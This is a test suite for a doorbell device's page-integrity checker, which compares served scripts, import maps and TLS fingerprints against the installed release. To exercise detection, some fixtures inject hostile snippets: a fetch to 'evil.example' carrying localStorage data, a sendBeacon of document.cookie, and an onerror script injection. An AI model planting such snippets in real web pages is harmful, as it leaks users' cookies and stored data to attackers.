"""``doorbell check-page``: the page code a doorbell serves, compared with this release.

Against a real ``doorbell demo`` (it matches), and against a small aiohttp server that
serves this release's page and files with one thing changed (each change is named),
over HTTP and over TLS with a self-signed certificate (the fingerprint is checked
before any request is sent)."""

import asyncio
import hashlib
import os
import signal
import ssl
import subprocess
import sys
from pathlib import Path

import pytest
from aiohttp import web

import doorbell
from doorbell.page_check import Page, local_release, parse_page
from doorbell.web import tls, vendor

DOORBELL = [sys.executable, "-m", "doorbell"]
STATIC = Path(doorbell.__file__).parent / "web" / "static"

pytestmark = pytest.mark.cli


@pytest.fixture(scope="module")
def library() -> vendor.Vendor:
    found = vendor.installed()
    if found is None:
        message = "node_modules is not installed (scripts/setup installs it)"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    return found


@pytest.fixture
def files(library) -> dict[str, bytes]:
    """Every file of this release a page can load, by URL path, as the device serves it."""
    served = {f"/static/{p.name}": p.read_bytes() for p in STATIC.iterdir() if p.is_file()}
    for name in library.files:
        served[f"/vendor/{library.tag}/{name}"] = (library.node_modules / name).read_bytes()
    return served


def page(import_map: str, extra: str = "") -> str:
    """The public page as this release serves it (its scripts and style sheet), plus ``extra``."""
    return (
        '<!doctype html>\n<html lang="en"><head><meta charset="utf-8">\n'
        '<link rel="stylesheet" href="/static/style.css">\n'
        f'<script type="importmap">{import_map}</script>\n'
        f'<script type="module" src="/static/app.js"></script>\n{extra}'
        "</head><body><h1>Unlock</h1></body></html>\n"
    )


class FakeDevice:
    """An aiohttp app serving ``html`` at /unlock (after a redirect from /unlock to
    /setup, like a doorbell with no owner yet) and ``files``; ``requests`` lists
    every path asked for."""

    def __init__(self, html: str, files: dict[str, bytes]) -> None:
        self.html, self.files, self.requests = html, files, []
        self.app = web.Application()
        self.app.router.add_get("/{tail:.*}", self.handle)

    async def handle(self, request: web.Request) -> web.StreamResponse:
        self.requests.append(request.path)
        if request.path == "/unlock":
            raise web.HTTPSeeOther("/setup")
        if request.path == "/setup":
            return web.Response(text=self.html, content_type="text/html")
        if request.path in self.files:
            return web.Response(body=self.files[request.path])
        raise web.HTTPNotFound()


async def check_page(*args: str) -> tuple[int, list[str], str]:
    process = await asyncio.create_subprocess_exec(
        *DOORBELL,
        "check-page",
        *args,
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    out, err = await asyncio.wait_for(process.communicate(), 60)
    assert "Traceback" not in err.decode()
    return process.returncode, out.decode().splitlines(), err.decode()


def summary(count: int) -> str:
    return f"page check: {count} files match this release (doorbell {doorbell.__version__})"


def test_a_real_demo_serves_this_release(tmp_path, library):
    process = subprocess.Popen(
        [*DOORBELL, "demo", "--port", "0", "--data-dir", str(tmp_path / "data")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        first = process.stdout.readline()  # doorbell: open http://localhost:PORT/setup …
        url = first.split()[2].removesuffix("setup")
        assert url.startswith("http://localhost:"), first
        result = subprocess.run(
            [*DOORBELL, "check-page", url], capture_output=True, text=True, timeout=60, check=False
        )
    finally:
        process.send_signal(signal.SIGTERM)
        try:
            process.wait(timeout=20)
        finally:
            process.kill()
            process.wait()
    assert result.returncode == 0, result.stdout + result.stderr
    release = local_release()
    assert result.stdout.splitlines() == [summary(len(release.files))]
    assert len(release.files) == len(list(STATIC.iterdir())) + len(library.files)


async def test_a_faithful_copy_matches(aiohttp_server, library, files):
    device = FakeDevice(page(library.import_map), files)
    server = await aiohttp_server(device.app)
    code, lines, _ = await check_page(str(server.make_url("/")))
    assert (code, lines) == (0, [summary(len(files))])
    assert set(files) <= set(device.requests)  # every file was fetched


@pytest.mark.parametrize(
    "change",
    ["static file", "library file", "inline script", "event handler", "import map", "foreign src"],
)
async def test_each_change_is_named(aiohttp_server, library, files, change):
    """One thing changed, one line naming it, exit 1."""
    import_map, extra = library.import_map, ""
    library_file = sorted(p for p in files if p.startswith("/vendor/"))[0]
    if change == "static file":
        files["/static/app.js"] += b"\nfetch('https://evil.example/' + localStorage.key);\n"
        expected = "/static/app.js: differs from this release's file"
    elif change == "library file":
        files[library_file] = files[library_file].replace(b"export", b"export /* x */", 1)
        expected = f"{library_file}: differs from this release's file"
    elif change == "inline script":
        extra = "<script>navigator.sendBeacon('/x', document.cookie)</script>"
        expected = "an inline <script> (43 characters)"
    elif change == "event handler":
        extra = '<img src="/static/style.css" onerror="alert(1)">'
        expected = "inline event handler onerror= on <img>"
    elif change == "import map":
        import_map = import_map.replace('"age-encryption":"', '"age-encryption":"/static/x', 1)
        expected = "the import map differs from this release's"
    else:
        extra = '<script src="https://cdn.example/age.js"></script>'
        expected = "https://cdn.example/age.js: loaded from outside the device"
    device = FakeDevice(page(import_map, extra), files)
    server = await aiohttp_server(device.app)
    code, lines, _ = await check_page(str(server.make_url("/")))
    assert code == 1
    base = str(server.make_url("/setup"))
    assert lines == [
        f"page check: {expected}",
        f"page check: {base} does not match this release (doorbell {doorbell.__version__})",
    ]


async def test_a_file_the_device_does_not_serve(aiohttp_server, library, files):
    del files["/static/style.css"]
    server = await aiohttp_server(FakeDevice(page(library.import_map), files).app)
    code, lines, _ = await check_page(str(server.make_url("/")))
    assert code == 1 and lines[0] == "page check: /static/style.css: not served by the device"


@pytest.fixture
def certificate(tmp_path) -> tuple[ssl.SSLContext, str]:
    cert = tls.ensure_certificate(tmp_path / "tls", "porch")
    return tls.server_context(cert), tls.fingerprint(cert)


async def test_over_tls_the_fingerprint_is_checked(aiohttp_server, library, files, certificate):
    context, fingerprint = certificate
    device = FakeDevice(page(library.import_map), files)
    server = await aiohttp_server(device.app, ssl=context)
    url = f"https://127.0.0.1:{server.port}/"
    code, lines, _ = await check_page(url, "--fingerprint", fingerprint)
    assert (code, lines) == (0, [summary(len(files))])
    code, lines, _ = await check_page(url, "--fingerprint", fingerprint.lower().replace(":", ""))
    assert code == 0  # any case, with or without colons


async def test_a_wrong_fingerprint_sends_nothing(aiohttp_server, library, files, certificate):
    context, fingerprint = certificate
    device = FakeDevice(page(library.import_map), files)
    server = await aiohttp_server(device.app, ssl=context)
    other = hashlib.sha256(b"another certificate").hexdigest()
    code, lines, err = await check_page(f"https://127.0.0.1:{server.port}/", "--fingerprint", other)
    assert code == 1 and lines == []
    assert f"the certificate is {fingerprint}, not the one given" in err
    assert "nothing was sent" in err
    assert device.requests == []


async def test_without_a_fingerprint_the_one_seen_is_shown(
    aiohttp_server, library, files, certificate
):
    context, fingerprint = certificate
    server = await aiohttp_server(FakeDevice(page(library.import_map), files).app, ssl=context)
    code, lines, _ = await check_page(f"https://127.0.0.1:{server.port}/")
    assert code == 0
    assert lines[0].startswith(f"page check: the device's certificate is SHA-256 {fingerprint}")
    assert "compare it" in lines[0]
    assert lines[1:] == [summary(len(files))]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["http://127.0.0.1:1/", "--fingerprint", "AB" * 32],
            "--fingerprint goes with an https://",
        ),
        (["https://127.0.0.1:1/", "--fingerprint", "AB:CD"], "a SHA-256 is needed"),
        (["porch.local"], "an http:// or https:// address"),
    ],
)
async def test_usage_errors(args, message):
    code, lines, err = await check_page(*args)
    assert code == 2 and lines == []
    assert message in err


async def test_an_unreachable_device_is_one_line(unused_tcp_port_factory):
    code, _, err = await check_page(f"http://127.0.0.1:{unused_tcp_port_factory()}/")
    assert code == 1
    [line] = err.splitlines()
    assert line.startswith("doorbell: http://127.0.0.1:") and "/unlock" in line


def test_the_parser_finds_what_loads_code():
    found = parse_page(
        '<base href="https://x/"><link rel="icon" href="/static/i.png">'
        '<script type="importmap">{"imports":{}}</script><script src="/static/app.js"></script>'
        '<script type="module">import "x"</script><iframe src="/x"></iframe>'
        '<button onclick="go()">go</button>'
    )
    assert found == Page(
        sources=["/static/i.png", "/static/app.js"],
        import_maps=['{"imports":{}}'],
        foreign=[
            "<base> is not in this release's page",
            'an inline <script type="module"> (10 characters)',
            "<iframe> is not in this release's page",
            "inline event handler onclick= on <button>",
        ],
    )
